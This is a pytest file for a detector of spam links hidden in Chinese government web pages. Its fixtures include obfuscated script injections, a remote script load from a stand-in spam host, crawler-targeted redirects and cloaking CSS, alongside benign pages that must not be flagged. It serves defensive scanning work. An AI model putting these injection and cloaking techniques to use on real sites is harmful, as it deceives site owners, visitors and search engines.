"""Pages with injected links, one technique each, and ordinary pages that hide things lawfully."""

from __future__ import annotations

import base64
import tarfile
from pathlib import Path

import pytest

from xuncha.text.pages.page import Page
from xuncha.text.tampering.hidden_links import Technique, find_hidden_links

HOME = "http://www.linshui.gov.cn/"
DATA = Path(__file__).parents[3] / ".." / "shared" / "data"

BAD = '<a href="http://www.q7w3.com/">新葡京娱乐官网</a>'
PLAIN = '<a href="http://www.q7w3.com/">更多资讯</a><a href="http://m.zz90.top/">下载</a>'


def page(body: str = "", head: str = "<title>临水市人民政府</title>", url: str = HOME) -> Page:
    """A small government page around the given markup."""
    return Page(
        f"""<html><head>{head}</head><body><div class="nav"><a href="/zwgk/">政务公开</a></div>
        <ul><li><a href="/yw/t20250601_1.html">我市召开防汛工作会议</a></li></ul>{body}
        <div class="foot"><a href="http://www.gov.cn/">中国政府网</a></div></body></html>""",
        url,
    )


def styled(style: str, links: str = PLAIN, tag: str = "div") -> str:
    """Links within a styled element."""
    return f'<{tag} style="{style}">{links}</{tag}>'


def each(style: str) -> str:
    """Links that carry the style themselves."""
    return f'<a href="http://www.q7w3.com/" style="{style}">更多资讯</a>'


def codes(markup: str) -> str:
    """Character codes of markup."""
    return ",".join(str(ord(mark)) for mark in markup)


INJECTED: list[tuple[Technique, str]] = [
    (Technique.OFF_SCREEN, styled("position:absolute;left:-9999px")),
    (Technique.OFF_SCREEN, styled("POSITION: fixed; TOP: -2000px;")),
    (Technique.OFF_SCREEN, styled("position:absolute;top:-500px;width:300px")),
    (Technique.OFF_SCREEN, styled("margin-left:-9999px")),
    (Technique.OFF_SCREEN, styled("margin:-999px 0 0 0")),
    (Technique.OFF_SCREEN, styled("transform:translateX(-9999px)")),
    (Technique.OFF_SCREEN, styled("text-indent:-9999px")),
    (Technique.OFF_SCREEN, styled("text-indent:-999em", tag="p")),
    (Technique.OFF_SCREEN, f"<style>.zk1{{position:absolute;left:-1500px}}</style><b class='zk1'>{PLAIN}</b>"),
    (Technique.OFF_SCREEN, f"<style>/*x*/#zk2 p , .u{{text-indent:-5000px!important}}</style><div id='zk2'><p>{PLAIN}</p></div>"),
    (Technique.TINY, styled("width:1px;height:1px;overflow:hidden")),
    (Technique.TINY, styled("height:1px;overflow:hidden")),
    (Technique.TINY, styled("overflow:hidden;width:0;height:0")),
    (Technique.TINY, styled("max-height:0;overflow:hidden")),
    (Technique.TINY, styled("height:0px;overflow:hidden", BAD)),
    (Technique.NOT_SHOWN, styled("display:none")),
    (Technique.NOT_SHOWN, styled("DISPLAY : NONE !important", BAD)),
    (Technique.NOT_SHOWN, styled("visibility:hidden")),
    (Technique.NOT_SHOWN, f"<div hidden>{PLAIN}</div>"),
    (Technique.NOT_SHOWN, f"<div class='menu' style='display:none'>{BAD}</div>"),
    (Technique.NOT_SHOWN, styled("display:none", '<a href="http://www.q7w3.com/">彩票</a>')),
    (Technique.NOT_SHOWN, f"<div id='z9'>{PLAIN}</div><script>document.getElementById('z9').style.display='none'</script>"),
    (Technique.NOT_SHOWN, f"<div id='z8'>{PLAIN}</div><script>$('#z8').hide();</script>"),
    (Technique.TRANSPARENT, styled("opacity:0")),
    (Technique.TRANSPARENT, styled("filter:alpha(opacity=0)")),
    (Technique.TRANSPARENT, styled("position:absolute;z-index:-1")),
    (Technique.CLIPPED, styled("position:absolute;clip:rect(0 0 0 0)")),
    (Technique.CLIPPED, styled("clip-path:inset(100%)")),
    (Technique.COLOUR, f'<div style="background:#fff">{each("color:#ffffff")}</div>'),
    (Technique.COLOUR, f'<table><tr><td bgcolor="#003366">{each("color:rgb(0,51,102)")}</td></tr></table>'),
    (Technique.COLOUR, f'<div style="background-color:white">{each("color:#fefefe")}</div>'),
    (Technique.COLOUR, '<div style="background:#fff"><font color="white"><a style="color:inherit;color:white" href="http://www.q7w3.com/">资讯</a></font></div>'),
    (Technique.COLOUR, each("color:transparent")),
    (Technique.COLOUR, '<a href="http://www.q7w3.com/" style="color:#fff">百家乐在线投注</a>'),
    (Technique.TINY_TYPE, each("font-size:0")),
    (Technique.TINY_TYPE, each("font-size:1px;line-height:0")),
    (Technique.TINY_TYPE, styled("font-size:1px")),
    (Technique.TINY_TYPE, each("font:0px/0 a") + each("font:1px arial")),
    (Technique.TINY_TYPE, styled("font-size:0.1em", PLAIN)),
    (Technique.MARQUEE, f"<marquee height=1 width=5>{PLAIN}</marquee>"),
    (Technique.MARQUEE, f'<marquee style="height:1px">{PLAIN}</marquee>'),
    (Technique.MARQUEE, f'<marquee scrollamount="3000">{PLAIN}</marquee>'),
    (Technique.MARQUEE, f'<marquee width="0" behavior="slide">{PLAIN}</marquee>'),
    (Technique.MARQUEE, f'<MARQUEE scrolldelay="99999" height="20">{PLAIN}</MARQUEE>'),
    (Technique.NOSCRIPT, f"<noscript>{BAD}</noscript>"),
    (Technique.SCRIPT, f"<script>document.write(String.fromCharCode({codes(PLAIN)}))</script>"),
    (Technique.SCRIPT, f"<script>eval(String.fromCharCode({codes('document.write(' + chr(39) + PLAIN + chr(39) + ')')}))</script>"),
    (Technique.SCRIPT, f'<script>var s="{"".join(f"%{ord(c):02x}" if ord(c) < 128 else f"%u{ord(c):04x}" for c in PLAIN)}";document.write(unescape("{"".join(f"%{ord(c):02x}" if ord(c) < 128 else f"%u{ord(c):04x}" for c in PLAIN)}"));</script>'),
    (Technique.SCRIPT, f'<script>document.body.innerHTML+=atob("{base64.b64encode(PLAIN.encode()).decode()}")</script>'),
    (Technique.SCRIPT, '<script>document.write("<a href=\'http://www.q7w3.com/\'>线上"+"赌场</a>")</script>'),
    (Technique.SCRIPT, f'<script>document["write"]("{PLAIN[::-1].replace(chr(34), chr(92) + chr(34))}".split("").reverse().join(""))</script>'),
    (Technique.SCRIPT, '<script>document.write("\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 src=http://js.q7w3.com/a.js>\\x3c/script>")</script>'),
    (Technique.SCRIPT, '<script>var a=document.createElement("a");a.href="\\x68\\x74\\x74\\x70://www.q7w3.com/";document.body.appendChild(a)</script>'),
    (Technique.SCRIPT, '<script>if(1){document.write("<div style=\'position:absolute;left:-999px\'><a href=\'http://www.q7w3.com\'>资讯</a></div>")}</script>'),
    (Technique.OFF_SCREEN, f"<script>document.write('<div style=\"position:absolute;left:-900px\">')</script>{PLAIN}<script>document.write('</div>')</script>"),
    (Technique.REDIRECT, '<script>if(document.referrer.match(/baidu|sogou/)){location.href="http://www.q7w3.com/"}</script>'),
    (Technique.REDIRECT, '<script>var t="http://www.q7w3.com";if(/Baiduspider/i.test(navigator.userAgent)){top.location.replace(t)}</script>'),
    (Technique.REDIRECT, '<script>window["location"]["href"]="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fwww.q7w3.com/"</script>'),
    (Technique.REDIRECT, '<script>setTimeout(function(){location="https://www.bet36588.com/"},10)</script>'),
    (Technique.FRAME, '<iframe src="http://www.q7w3.com/" width="100%" height="100%"></iframe>'),
    (Technique.FRAME, '<iframe src="//www.q7w3.com/" style="position:fixed;left:0;width:100vw;height:100vh"></iframe>'),
    (Technique.FRAME, "<iframe src=http://www.q7w3.com/ width=0 height=0></iframe>"),
    (Technique.FRAME, '<iframe src="http://www.q7w3.com/" style="display:none"></iframe>'),
    (Technique.FRAME, '<iframe src="http://www.bocai888.net/" width="300" height="200"></iframe>'),
    (Technique.NOT_SHOWN, "<div style='display:none'>线上赌场 时时彩平台 北京赛车pk10 百家乐</div>"),
    (Technique.OFF_SCREEN, styled("position:absolute;left:9999px")),
    (Technique.OFF_SCREEN, styled("position:absolute;top:-900%")),
    (Technique.OFF_SCREEN, styled("position:fixed;inset:0 auto auto -4000px")),
    (Technique.OFF_SCREEN, styled("position:absolute;inset:-99em 0 0")),
    (Technique.OFF_SCREEN, styled("position:absolute;top:90000px")),
    (Technique.OFF_SCREEN, styled("text-indent:-900%")),
    (Technique.OFF_SCREEN, styled("transform:translate(0,-2000%)")),
    (Technique.OFF_SCREEN, f"<style>@media screen{{.q2{{position:absolute;left:-900px}}}}</style><div class='q2'>{PLAIN}</div>"),
    (Technique.OFF_SCREEN, f"<style>@media all and (min-width:1px){{.q2{{margin-left:-900px}}}}</style><div class='q2'>{PLAIN}</div>"),
    (Technique.OFF_SCREEN, f"<style>@supports (display:grid){{.q2{{text-indent:-900px}}}}</style><div class='q2'>{PLAIN}</div>"),
    (Technique.OFF_SCREEN, f"<style>p:nth-child(2){{position:absolute;left:-900px}}</style><div><p>a</p><p>{PLAIN}</p></div>"),
    (Technique.OFF_SCREEN, f"<style>.q2{{position:absolute;l\\65 ft:-900px}}</style><div class='q2'>{PLAIN}</div>"),
    (Technique.OFF_SCREEN, f"<style>:root{{--d:-900px}}.q2{{position:fixed;top:var(--d)}}</style><div class='q2'>{PLAIN}</div>"),
    (Technique.OFF_SCREEN, f"<link rel=stylesheet href='data:text/css,.q2{{position:absolute;left:-900px}}'><div class='q2'>{PLAIN}</div>"),
    (Technique.NOT_SHOWN, f"<link rel=stylesheet href='data:text/css;base64,{base64.b64encode(b'.q2{display:none}').decode()}'><div class='q2'>{PLAIN}</div>"),
    (Technique.NOT_SHOWN, styled("content-visibility:hidden")),
    (Technique.TRANSPARENT, styled("opacity:1%")),
    (Technique.TRANSPARENT, styled("filter:opacity(0)")),
    (Technique.TINY, each("display:inline-block;width:1px;height:1px;overflow:hidden")),
    (Technique.TINY_TYPE, f'<a href="http://www.q7w3.com/" style="font:0/0 a">{"资讯"}</a>'),
    (Technique.COLOUR, each("color:rgba(0,0,0,0)")),
    (Technique.COLOUR, each("color:#12345600")),
    (Technique.COLOUR, each("-webkit-text-fill-color:transparent")),
    (Technique.COLOUR, f'<div style="background:#fff">{each("color:hsl(0, 0%, 100%)")}</div>'),
    (Technique.COLOUR, f'<div style="background:white"><font color="white">{each("color:inherit")}</font></div>'),
    (Technique.NOT_SHOWN, f"<div class='z7'>{PLAIN}</div><script>document.querySelector('.z7').style.display='none'</script>"),
    (Technique.NOT_SHOWN, f"<div class='z7'>{PLAIN}</div><script>document.getElementsByClassName('z7')[0].style.visibility='hidden'</script>"),
    (Technique.NOT_SHOWN, f"<div id='z7'>{PLAIN}</div><script>var d=document.getElementById('z7');d.style.visibility='hidden';</script>"),
    (Technique.NOT_SHOWN, f"<div id='z7'>{PLAIN}</div><script>document.getElementById('z7').setAttribute('style','display:none')</script>"),
    (Technique.NOT_SHOWN, f"<div id='z7'>{PLAIN}</div><script>document.all.z7.style.display='none'</script>"),
    (Technique.NOT_SHOWN, f"<div id='z7'>{PLAIN}</div><script>window.onload=function(){{document.getElementById('z7').remove()}}</script>"),
    (Technique.NOT_SHOWN, f"<div class='z7'>{PLAIN}</div><script>$('.z7').hide()</script>"),
    (Technique.OFF_SCREEN, f"<div id='z7'>{PLAIN}</div><script>$('#z7').css({{'position':'absolute','left':'-900px'}})</script>"),
    (Technique.SCRIPT, f"<script>document.body.insertAdjacentHTML('beforeend','<div style=\"display:none\">{PLAIN}</div>')</script>"),
    (Technique.OFF_SCREEN, "<script>var h='<div style=\"position:absolute;left:-900px\">';document.write(h+'<a href=\"http://www.q7w3.com/\">资讯</a></div>');</script>"),
    (Technique.SCRIPT, "<script>var a=document.createElement('a');a.href='http://www.q7w3.com/';a.innerText='新葡京娱乐官网';document.body.appendChild(a)</script>"),
    (Technique.REDIRECT, "<script>window.location.href='http://www.q7w3.com/'</script>"),
    (Technique.REDIRECT, "<script>setTimeout(function(){location.replace('http://www.q7w3.com/')},100)</script>"),
    (Technique.REDIRECT, "<script>if(/android|iphone/i.test(navigator.userAgent)){location='http://www.q7w3.com/app'}</script>"),
]  # fmt: skip


@pytest.mark.parametrize(("technique", "markup"), INJECTED)
def test_injected_links_are_found(technique: Technique, markup: str) -> None:
    found = find_hidden_links(page(markup))
    assert technique in {item.technique for item in found}
    assert all(item.reason for item in found)
    assert all("linshui" not in item.url and "www.gov.cn" not in item.url for item in found)


HEADS = [
    "<title>&#26032;&#33889;&#20140;&#23089;&#20048;&#23448;&#32593;</title>",
    "<title>bet365体育投注-临水市人民政府</title>",
    '<title>临水</title><meta name="Keywords" content="&#x767e;&#x5bb6;&#x4e50;,&#x535a;&#x5f69;">',
    "<title>临水</title><meta name='description' content='线·上·赌·场，真人娱乐，注册即送'>",
    "<title>賭場 娛樂城</title>",
    '<title>临水</title><meta property="og:title" content="成人视频在线观看">',
]


@pytest.mark.parametrize("head", HEADS)
def test_changed_titles_and_keywords(head: str) -> None:
    (first, *_) = find_hidden_links(page(head=head))
    assert first.technique is Technique.TAMPERED_META
    assert first.suspicion is not None


def test_a_title_in_numbered_characters_is_called_so() -> None:
    (found,) = find_hidden_links(page(head=HEADS[0]))
    assert "字符编码" in found.reason
    assert found.text == "新葡京娱乐官网"


def test_meta_refresh_to_a_stranger() -> None:
    (found,) = find_hidden_links(
        page(head='<meta http-equiv="Refresh" content="0; URL=http://www.q7w3.com/">')
    )
    assert (found.technique, found.url) == (Technique.REDIRECT, "http://www.q7w3.com/")


ORDINARY = [
    '<a href="http://www.steel-x.com/" style="background:url(/logo.png);text-indent:-9999px;display:block">某公司</a>',
    styled("display:none", '<a href="/zwgk/a.html">机构职能</a><a href="/b.html">领导信息</a>'),
    styled("display:none", '<a href="http://www.ndrc.gov.cn/">国家发展改革委</a><a href="http://www.moe.gov.cn/">教育部</a>'),
    '<ul class="dropdown-menu" style="display:none"><li><a href="http://www.steel-x.com/">某钢铁</a></li><li><a href="http://www.mill-y.com/">某纺织</a></li></ul>',
    '<div class="footer"><div style="display:none"><a href="http://www.steel-x.com/">某钢铁</a><a href="http://www.mill-y.com/">某纺织</a></div></div>',
    '<a href="#main" style="position:absolute;left:-9999px">跳到正文</a>',
    '<div class="swiper-wrapper" style="position:absolute;left:-1200px"><a href="http://www.steel-x.com/">专题</a></div>',
    '<div class="tab2" style="display:none"><a href="http://www.steel-x.com/">甲</a><a href="http://www.mill-y.com/">乙</a></div>',
    '<div class="share" style="visibility:hidden"><a href="https://service.weibo.com/share">微博</a><a href="https://www.douban.com/">豆瓣</a></div>',
    '<a href="https://weibo.com/linshui" style="text-indent:-9999px;display:block">官方微博</a>',
    '<div style="font-size:0"><a href="http://www.steel-x.com/"><img src="/x.png"></a></div>',
    '<div style="font-size:0"><a style="font-size:14px" href="http://www.steel-x.com/">某钢铁</a></div>',
    '<div style="background:#fff"><div style="background:url(/b.jpg)"><a style="color:#fff" href="http://www.steel-x.com/">承建：某公司</a></div></div>',
    '<a style="color:#fff" href="http://www.steel-x.com/">承建：某公司</a>',
    '<div style="background:#fff"><a style="color:#fff" href="http://www.steel-x.com/"><img src="/logo.png"></a></div>',
    '<div style="background:#024"><a style="color:#fff" href="http://www.steel-x.com/">承建：某公司</a></div>',
    "<style>@media print{.main{display:none}}.main a:hover{display:none}</style><div class='main'><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></div>",
    "<style media='print'>.main{display:none}</style><div class='main'><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></div>",
    "<script>function sw(){document.getElementById('b1').style.display='none'}</script><div id='b1'><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></div>",
    "<script>document.write(unescape(\"%3Cscript src='https://s4.cnzz.com/z_stat.php%3Fid%3D1'%3E%3C/script%3E\"))</script>",
    "<script>document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/1.js'%3E%3C/script%3E\"))</script>",
    "<script>document.write('<a href=\"http://www.steel-x.com/\">承建：某公司</a>')</script>",
    "<script>if(/Android/i.test(navigator.userAgent)){location.href='http://m.linshui.gov.cn/'}</script>",
    "<script>var ref=document.referrer;if(ref.indexOf('baidu')>0){location.href='/search.html'}</script>",
    '<meta http-equiv="refresh" content="600"><meta http-equiv="refresh" content="5;url=http://zwfw.linshui.gov.cn/">',
    '<iframe src="http://i.tianqi.com/index.php" width="100%" height="100%"></iframe>',
    '<iframe src="/video/1.html" width="100%" height="100%"></iframe>',
    '<iframe src="http://vr.steel-x.com/" width="600" height="400"></iframe>',
    '<marquee height="200" scrollamount="2"><a href="http://www.steel-x.com/">某钢铁</a></marquee>',
    '<marquee height="1" scrollamount="2"><a href="/a.html">公告</a></marquee>',
    "<noscript><a href='http://www.stat-z.com/'>统计</a></noscript>",
    "<div style='display:none'><a href='/news/2.html'>公安机关破获特大百家乐网络赌博案件</a></div>",
    "<div style='display:none'><a href='/news/3.html'>我市文化娱乐场所安全检查情况</a><p>个性爱好广泛的青年志愿者积极投身公益</p></div>",
    "<p>严禁参与百家乐、时时彩等网络赌博活动，远离线上赌场。</p>",
    "<a href='http://www.steel-x.com/' style='text-indent:2em;margin-left:-20px;position:relative;top:-5px'>某钢铁</a>",
    "<div style='display:none'><a href='http://www.steel-x.com/'>唯一的外链</a></div>",
    "<div style='width:1px;height:20px;background:#ccc'></div>",
    "<div style='width:600px;overflow:hidden'><div style='position:absolute;left:-400%'><a href='http://www.steel-x.com/'>甲</a></div></div>",
    "<div style='position:absolute;left:1200px;top:3000px'><a href='http://www.steel-x.com/'>甲</a></div>",
    "<style>@media (max-width:768px){.wide{display:none}}@media (min-width:992px){.slim{display:none}}</style><div class='wide slim'><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></div>",
    "<style>.foot a:visited{color:#fff}p:nth-child(9){display:none}</style><p class='foot'><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></p>",
    "<style>:root{--c:#fff;--b:#035}</style><div style='background:#035'><a style='color:#fff' href='http://www.steel-x.com/'>甲</a></div>",
    "<div style='background:#fff'><a style='color:rgba(0,0,0,.8)' href='http://www.steel-x.com/'>甲</a><a style='color:#336699ff' href='http://www.mill-y.com/'>乙</a></div>",
    "<a href='http://www.steel-x.com/' style='display:inline-block;width:1px;height:1px;overflow:hidden'><img src='/x.png'></a>",
    "<script>function go(){location.href='http://www.steel-x.com/'}$('#b').click(function(){window.open('http://www.steel-x.com/')})</script>",
    "<script>if(location.hostname=='127.0.0.1'){location.href='http://www.steel-x.com/'}</script>",
    "<script>if(top!=self) top.location='http://www.steel-x.com/'</script>",
    "<script>document.getElementById('app').onclick=function(){if(/android/i.test(navigator.userAgent)){location.href='http://www.steel-x.com/app'}}</script>",
    "<script>$('.t3 li').hover(function(){$('.t3 div').hide()})</script><div class='t3'><div><a href='http://www.steel-x.com/'>甲</a><a href='http://www.mill-y.com/'>乙</a></div></div>",
    "<script>$('body').append('<div id=\"adv\" style=\"display:none\"><a href=\"http://www.steel-x.com/\">甲</a></div>')</script>",
]  # fmt: skip


@pytest.mark.parametrize("markup", ORDINARY)
def test_ordinary_pages_are_left_in_peace(markup: str) -> None:
    assert find_hidden_links(page(markup)) == ()


ORDINARY_HEADS = [
    "<title>临水市公安局打击网络赌博百家乐专项行动</title>",
    "<title>中国体育彩票11选5开奖公告</title>",
    "<title>&#20020;&#27700;&#24066;&#20154;&#27665;&#25919;&#24220;</title>",
    '<title>临水</title><meta name="keywords" content="禁止赌博,扫黄打非,净网行动">',
    "<title>全市文化娱乐场所管理办法</title>",
]


@pytest.mark.parametrize("head", ORDINARY_HEADS)
def test_ordinary_titles(head: str) -> None:
    assert find_hidden_links(page(head=head)) == ()


def test_a_host_the_page_links_to_openly_is_no_stranger() -> None:
    seen = "<a href='http://www.steel-x.com/a'>甲</a><a href='http://news.steel-x.com/b'>乙</a>"
    assert (
        find_hidden_links(
            page(seen + styled("position:absolute;left:-9999px", "<a href='http://www.steel-x.com/'>丙</a>"))
        )
        == ()
    )


def test_own_hidden_pages_with_such_words_are_named() -> None:
    markup = styled("position:absolute;left:-9999px", "<a href='/html/888.html'>真人娱乐平台</a>")
    (found,) = find_hidden_links(page(markup))
    assert found.url == HOME + "html/888.html"
    assert found.suspicion is not None
    assert found.suspicion.kind == "赌博"


def test_each_address_is_named_once() -> None:
    markup = styled("display:none", BAD * 5) + styled("opacity:0", BAD)
    assert len(find_hidden_links(page(markup))) == 1


def test_a_broken_page_is_read_without_an_error() -> None:
    assert (
        find_hidden_links(Page("<style>}{.a{left:-999px</style><a href='http://[::1'>x<script>eval(", HOME))
        == ()
    )


def saved_pages() -> list[tuple[str, bytes]]:
    """Real pages, which nobody has injected anything into."""
    found = [
        (path.name, path.read_bytes())
        for part in ("pages", "accounts/wechat_pages")
        for path in sorted((DATA / part).rglob("*.html"))
    ]
    archive = DATA / "dates" / "gne_tests.tgz"
    if archive.is_file():
        with tarfile.open(archive) as tar:
            for member in tar:
                file = tar.extractfile(member) if member.name.endswith(".html") else None
                if file is not None:
                    found.append((member.name, file.read()))
    return found


def test_no_alarm_on_real_pages() -> None:
    pages = saved_pages()
    if not pages:
        pytest.skip("the folder of saved pages is absent")
    accused = {}
    for name, raw in pages:
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = raw.decode("gb18030", errors="replace")
        found = find_hidden_links(Page(text, "http://www.linshui.gov.cn/a/b.html"))
        if found:
            accused[name] = found[0]
    assert accused == {}
